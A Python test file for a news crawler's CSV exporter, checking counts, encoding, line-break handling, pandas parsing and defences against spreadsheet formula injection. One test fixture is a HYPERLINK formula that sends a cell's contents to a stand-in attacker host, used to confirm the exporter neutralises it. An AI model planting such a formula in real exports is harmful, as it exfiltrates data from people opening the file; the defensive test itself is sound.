"""CSV that does no harm, and can be read back."""

import csv
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kzcrawl.export.csv import DANGEROUS, harmless
from tests.export.conftest import Exported, Into, counted, kept
from tests.make import text_page
from tests.test_job import bring

DOCS = Path(__file__).parents[2] / "docs" / "export.md"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Аким проверил мост")'


def rows(folder: Path, table: str) -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_the_counts_are_those_of_the_manifests(exported: Exported, night: Path) -> None:
    folder = exported("csv")
    assert {table: len(rows(folder, table)) for table in counted(night)} == counted(night)


def test_a_title_that_is_a_formula_is_harmless(export: Into, tmp_path: Path) -> None:
    archive = tmp_path / "archive"
    bring(
        archive, text_page(f"28.11.2025, 13:52 33221\n{FORMULA}\nАлматы. 28 ноября. KAZAKHSTAN TODAY - Мост открыт.\n")
    )
    (row,) = rows(export("csv", archive=archive), "articles")
    assert row["title"] == f"'{FORMULA}"
    assert row["paragraphs"] == "Алматы. 28 ноября. KAZAKHSTAN TODAY - Мост открыт."


@pytest.mark.parametrize("sign", DANGEROUS)
def test_no_text_begins_as_a_formula_does(sign: str) -> None:
    assert harmless(f"{sign}1+1") == f"'{sign}1+1"


@given(st.text() | st.text(alphabet="=+-@＝;'\r\n\ta "))
def test_what_was_put_before_it_can_be_taken_away(text: str) -> None:
    assert as_in_the_docs(harmless(text)) == text
    assert not any(cell.startswith(DANGEROUS) for cell in harmless(text).split(";"))


def as_in_the_docs(text: str) -> str:
    (undo,) = re.findall(r"`(re\.sub\(.*?\))`", DOCS.read_text("utf-8"))
    return str(eval(undo, {"re": re, "text": text}))  # noqa: S307 - our docs


def test_it_is_as_spreadsheets_want_it(exported: Exported) -> None:
    content = (exported("csv") / "articles.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfarticle_id,revision,")
    assert content.endswith(b"\r\n")


def test_lists_are_parted_by_line_breaks(exported: Exported, night: Path) -> None:
    read = {(row["id"], row["revision"]): row for row in rows(exported("csv"), "articles")}
    for record in kept(night)["articles"]:
        row = read[record["id"], str(record["revision"])]
        assert as_in_the_docs(row["paragraphs"]).split("\n") == record["paragraphs"]
        assert row["tags"].split("\n") == (record["tags"] or [""])


def test_pandas_reads_it_with_times(exported: Exported) -> None:
    frame = pd.read_csv(exported("csv") / "observations.csv", parse_dates=["observed_at"])
    assert str(frame["observed_at"].dtype).endswith("UTC]")
    assert str(frame["views"].dtype) == "int64"


def test_it_loads_nothing_of_other_formats(night: Path, tmp_path: Path) -> None:
    script = "import sys; from kzcrawl.cli import main; main(sys.argv[1:]); print(*sys.modules)"
    words = ["export", "--format", "csv", "--into", str(tmp_path / "out"), "--archive", str(night)]
    done = subprocess.run([sys.executable, "-c", script, *words], capture_output=True, text=True, check=True)
    assert "kzcrawl.export.csv" in done.stdout.split()
    assert not {"pyarrow", "pymorphy3", "scrapy"} & set(done.stdout.split())
